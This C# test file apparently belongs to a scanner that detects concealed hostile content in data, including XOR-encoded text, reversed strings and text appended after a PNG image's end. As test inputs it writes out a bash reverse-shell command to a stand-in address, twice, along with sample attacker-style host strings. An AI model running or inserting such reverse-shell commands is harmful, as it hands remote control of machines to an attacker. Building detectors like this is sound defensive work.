using System.Globalization;
using System.Text;
using Symbiont.Scanning.Decoding.Concealed;

namespace Symbiont.Scanning.Tests.Decoding;

/// <summary>What is hidden in data is found by the data, whatever program undoes it.</summary>
public sealed class ConcealmentTests
{
    private const int Mebibyte = 1 << 20;

    private static readonly SkillScanner Scanner = new();

    [Theory, MemberData(nameof(ConcealmentCases.All), MemberType = typeof(ConcealmentCases))]
    public void What_is_hidden_in_data_is_found_and_named(string file, string layer, string text)
    {
        var found = Scanner.ScanText(text, file).Findings.Where(finding => finding.Rule == "concealed-text").ToList();

        Assert.True(found.Exists(finding => finding.Severity == Severity.High && finding.Message.Contains($"({layer})", StringComparison.Ordinal)), $"in {text}\n{string.Join('\n', found.Select(finding => finding.Message))}");
    }

    [Theory, MemberData(nameof(ConcealmentCases.Honest), MemberType = typeof(ConcealmentCases))]
    public void Honest_data_is_not_taken_for_hidden(string file, string text) =>
        Assert.DoesNotContain(Scanner.ScanText(text, file).Findings, finding => finding.Rule == "concealed-text");

    [Theory]
    [InlineData("203.0.113.9", true)]
    [InlineData("203.0.113.9:4444", true)]
    [InlineData("203.0.113.9/x.sh", true)]
    [InlineData("203.0.113.9/", true)]
    [InlineData("collect.example.net/0", true)]
    [InlineData("7.2.4.7/11.7/1", false)]
    [InlineData("27.17.27.3/7.3/7.3/7.", false)]
    [InlineData("01.02.03.0", false)]
    [InlineData("192.168.0.10", false)]
    [InlineData("223.255.0.1", true)]
    [InlineData("7.0.701.722", false)]
    [InlineData("227.107.0.7", false)]
    public void Numbers_with_dots_are_an_address_only_if_written_as_one(string text, bool isHost) => Assert.Equal(isHost, Secrets.IsHost(text));

    [Fact]
    public void What_was_hidden_is_scanned_as_a_layer_of_its_own()
    {
        var hidden = Hidden.List(Hidden.Xor("bash -i >& /dev/tcp/203.0.113.9/4444 0>&1", 77));

        var one = Assert.Single(Scanner.ScanText($"first\nd = [{hidden}]", "a.py").Findings, finding => finding.Rule == "reverse-shell-bash");
        Assert.Equal((Severity.Critical, 2, "xor 0x4d"), (one.Severity, one.Line, Assert.Single(one.Layers)));
    }

    [Fact]
    public void In_a_test_it_is_medium() =>
        Assert.Equal(Severity.Medium, Assert.Single(Scanner.ScanText($"assert flip('{Hidden.Reversed(Hidden.Command)}')", "tests/test_flip.py").Findings, finding => finding.Rule == "concealed-text").Severity);

    [Fact]
    public void Text_behind_the_end_of_a_picture_is_scanned()
    {
        using var folder = new Files.SkillFolder();
        byte[] picture = [0x89, 0x50, 0x4E, 0x47, 0x0D, 0x0A, 0x1A, 0x0A, 0, 0, 0, 0, .. "IEND"u8, 0xAE, 0x42, 0x60, 0x82];
        folder.With("a.png", [.. picture, .. "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1\n"u8]);
        folder.With("b.png", [.. picture, .. "no more than a comment of a camera"u8]);

        var findings = folder.Scan();

        Assert.Contains(findings, finding => finding is { Rule: "reverse-shell-bash", File: "a.png", Severity: Severity.Critical } && finding.Layers.Contains("behind a picture"));
        Assert.DoesNotContain(findings, finding => finding.File == "b.png" && finding.Severity >= Severity.High);
    }

    [Theory]
    [InlineData("65,")]
    [InlineData("{0},")]
    [InlineData("0x41, ")]
    [InlineData("'a',")]
    [InlineData("\"ab\" + ")]
    [InlineData("'//:ptth' ")]
    [InlineData("iuuqt;00 ")]
    [InlineData("\\x41")]
    [InlineData("01")]
    [InlineData("41 ")]
    [InlineData("${{a:1:1}}")]
    [InlineData("'x{0}'.replace('a', 'b')\n")]
    [InlineData("M9F]O(&)A<@\n")]
    [InlineData("QUJDREVGR0hJSktMTU5PUFFSU1RVVldYWVo{0}\n\n")]
    [InlineData("'abcdefghijk{0}' ")]
    [InlineData("[{0}, 12, 13, 14, 15, 16, 17, 18, 19, 20]; ")]
    public void A_mebibyte_of_it_takes_less_than_half_a_second(string piece)
    {
        var format = CompositeFormat.Parse(piece);
        var text = new StringBuilder(Mebibyte + 100);
        for (var i = 0; text.Length < Mebibyte; i++)
            text.AppendFormat(CultureInfo.InvariantCulture, format, i);
        var source = new ScanSource("a.py", text.ToString());
        var analyzer = new Scanning.Decoding.Concealed.ConcealmentAnalyzer();
        _ = analyzer.Analyze(new ScanSource("a.py", "x = 'warm up'"), CancellationToken.None).Count();

        var took = ThreadTime.Of(() => _ = analyzer.Analyze(source, CancellationToken.None).Count());

        // Several times what is promised: a shared machine may be slow.
        Assert.True(took < TimeSpan.FromSeconds(2), $"It took {took}.");
    }
}
